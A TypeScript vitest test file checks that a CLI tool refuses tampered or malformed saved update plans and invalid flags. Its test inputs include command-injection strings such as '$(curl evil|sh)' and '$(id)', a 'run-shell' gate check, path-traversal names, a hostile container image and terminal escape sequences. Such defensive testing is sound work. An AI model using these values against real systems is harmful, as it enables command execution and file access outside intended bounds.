/**
 * `--plan plan.json` is an input: its structure is checked (PLAN_INVALID) and its id must be the
 * hash of its content (PLAN_TAMPERED), so an edited plan never renders.
 */
import { mkdtempSync, readFileSync, rmSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readSavedPlan } from '../../src/cli/inputs.js';
import { OsvError } from '../../src/errors.js';
import { recomputePlanId } from '../../src/plan/saved.js';
import { runCli } from '../helpers/cli.js';

type Plan = Record<string, unknown> & { id: string };

const dir = mkdtempSync(join(tmpdir(), 'osv-saved-plan-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
let original: Plan;
let n = 0;

beforeAll(async () => {
  const res = await runCli(['plan', '--example', '--batch', 'compute-b', '--output', 'plan.json'], dir);
  expect(res.exitCode, res.stderr).toBe(0);
  original = JSON.parse(readFileSync(join(dir, 'plan.json'), 'utf8')) as Plan;
});

const copy = (): Plan => structuredClone(original);

function save(plan: unknown): string {
  const file = join(dir, `plan-${n++}.json`);
  writeFileSync(file, typeof plan === 'string' ? plan : JSON.stringify(plan, null, 2));
  return file;
}

/** A crafted plan whose id was recomputed, so only the structure check stands in the way. */
function rehashed(plan: Plan): Plan {
  return { ...plan, id: recomputePlanId(plan) };
}

function refusal(plan: unknown): OsvError {
  try {
    readSavedPlan(save(plan));
  } catch (e) {
    if (e instanceof OsvError) return e;
    throw e;
  }
  throw new Error('expected the plan to be refused');
}

const phases = (p: Plan) => p['phases'] as Record<string, unknown>[];
const deploymentsOf = (p: Plan) =>
  phases(p).flatMap((ph) => ((ph['git'] as Record<string, unknown>)['deployments'] as Record<string, unknown>[]));

describe('saved plans', () => {
  it('reads back a plan exactly as written', () => {
    expect(recomputePlanId(original)).toBe(original.id);
    expect(readSavedPlan(join(dir, 'plan.json'))).toEqual(original);
  });

  it('refuses an edited plan (PLAN_TAMPERED), whatever was edited', () => {
    const edits: ((p: Plan) => void)[] = [
      (p) => (p.id = '0123456789abcdef'),
      (p) => ((p['notes'] as string[]).push('approved by nobody')),
      (p) => ((p['options'] as Record<string, unknown>)['reboot'] = true),
      (p) => (deploymentsOf(p)[0]!['servicesOverride'] = ['ovn', 'reboot-os']),
      (p) => ((p['customContainerImages'] as Record<string, unknown>)['novaAPIImage'] = 'quay.io/evil/nova:latest'),
    ];
    for (const edit of edits) {
      const p = copy();
      edit(p);
      const e = refusal(p);
      expect(e.code).toBe('PLAN_TAMPERED');
      expect(e.exitCode).toBe(2);
    }
  });

  it('refuses a crafted plan by its structure even when its id was recomputed (PLAN_INVALID)', () => {
    const crafts: [string, (p: Plan) => void][] = [
      ['versions.target', (p) => ((p['versions'] as Record<string, unknown>)['target'] = '18.0.4-/../../../outside')],
      ['versions.deployed', (p) => ((p['versions'] as Record<string, unknown>)['deployed'] = '18.0.3 ')],
      ['phases[0].index', (p) => (p['phases'] = [{ index: 1 }])],
      ['phases[0].index', (p) => (phases(p)[0]!['index'] = 1)],
      ['phases[1].id', (p) => (phases(p)[1]!['id'] = '../../outside')],
      ['deployments[0].name', (p) => (deploymentsOf(p)[0]!['name'] = 5)],
      ['deployments[0].name', (p) => (deploymentsOf(p)[0]!['name'] = '../../x')],
      ['deployments[0]', (p) => (((phases(p)[2]!['git'] as Record<string, unknown>)['deployments'] as unknown[])[0] = 'edpm')],
      ['deployments[0].nodeSets[0]', (p) => (deploymentsOf(p)[0]!['nodeSets'] = ['compute-z'])],
      ['namespace', (p) => (p['namespace'] = 'Bad NS!')],
      ['openStackVersion', (p) => (p['openStackVersion'] = '../../../../outside/pwn-ns')],
      ['nodeSets[0].name', (p) => ((p['nodeSets'] as Record<string, unknown>[])[0]!['name'] = 'Compute_A')],
      ['customContainerImages.novaAPIImage', (p) => ((p['customContainerImages'] as Record<string, unknown>)['novaAPIImage'] = '$(curl evil|sh)')],
      ['options.namePrefix', (p) => ((p['options'] as Record<string, unknown>)['namePrefix'] = 'a/b')],
      ['options.attempt', (p) => ((p['options'] as Record<string, unknown>)['attempt'] = -1)],
      ['gate.checks', (p) => (((phases(p)[1]!['gate'] as Record<string, unknown>)['checks'] as unknown[]).push({ kind: 'run-shell', cmd: 'id' }))],
      ['phases', (p) => (p['phases'] = 'all')],
      ['serviceDefaults', (p) => (p['serviceDefaults'] = [{ service: 'glance', field: '$(id)', change: 'changed', to: 'x', effect: 'e', source: 's' }])],
      ['operatorRelease', (p) => (p['operatorRelease'] = { release: { nested: true } })],
    ];
    for (const [where, craft] of crafts) {
      const p = copy();
      craft(p);
      const e = refusal(rehashed(p));
      expect(e.code, where).toBe('PLAN_INVALID');
      expect(e.exitCode).toBe(2);
      expect([...e.message].some((c) => c.charCodeAt(0) < 0x20)).toBe(false);
    }
  });

  it('refuses what is not a plan, without a stack trace', () => {
    for (const bad of ['{', 'null', '[]', '"plan"', JSON.stringify({ apiVersion: 'osv-gitops.io/v1alpha1', kind: 'UpdatePlan' })]) {
      expect(refusal(bad).code, bad).toBe('PLAN_INVALID');
    }
    const text = JSON.stringify(copy());
    const nested = refusal(`${text.slice(0, -1)},"extra":${'['.repeat(5000)}"x"${']'.repeat(5000)}}`);
    expect(nested.code).toBe('PLAN_INVALID');
    expect(nested.message).toContain('nested deeper than');
    const big = save('');
    truncateSync(big, 60 * 1024 * 1024);
    expect(() => readSavedPlan(big)).toThrow(expect.objectContaining({ code: 'INPUT_TOO_LARGE' }));
    expect(() => readSavedPlan(join(dir, 'missing.json'))).toThrow(expect.objectContaining({ code: 'INPUT_NOT_FOUND' }));
  });
});

describe('input flags at the edge', () => {
  const cases: [string[], string][] = [
    [['--target', '18.0.4-/../../../outside'], 'VERSION_INVALID'],
    [['--target', '18.0.4-1764633600 '], 'VERSION_INVALID'],
    [['--namespace', 'Bad_NS/../x'], 'NAME_INVALID'],
    [['--namespace', 'Bad NS!'], 'NAME_INVALID'],
    [['--batch', 'Compute_A'], 'NAME_INVALID'],
    [['--batch', 'compute-a,../../x'], 'NAME_INVALID'],
    [['--name-prefix', 'edpm/../../x'], 'NAME_INVALID'],
    [['--attempt', '-1'], 'USAGE'],
    [['--attempt', '1e1'], 'USAGE'],
    [['--output', 'nodir/plan.json'], 'OUTPUT_INVALID'],
    [['--output', '.'], 'OUTPUT_INVALID'],
  ];
  for (const [args, code] of cases) {
    it(`plan ${args.join(' ')} → ${code}`, async () => {
      const res = await runCli(['plan', '--example', ...args, '--json'], dir);
      expect(res.exitCode, res.stderr).toBe(2);
      expect(res.stderr).toContain(`error [${code}]`);
      expect(res.stderr).not.toContain('internal error');
      expect((JSON.parse(res.stdout) as { error: { code: string } }).error.code).toBe(code);
    });
  }

  it('never echoes control bytes from a flag', async () => {
    const res = await runCli(['plan', '--example', '--target', '18.0.4\u001b]0;pwned\u0007\u001b[2J'], dir);
    expect(res.exitCode).toBe(2);
    expect(res.stderr).toContain('error [VERSION_INVALID]: --target "18.0.4\\u001b]0;pwned\\u0007\\u001b[2J" is not valid');
    expect([...res.stderr].some((c) => c !== '\n' && (c.charCodeAt(0) < 0x20 || c.charCodeAt(0) === 0x7f))).toBe(false);
  });
});
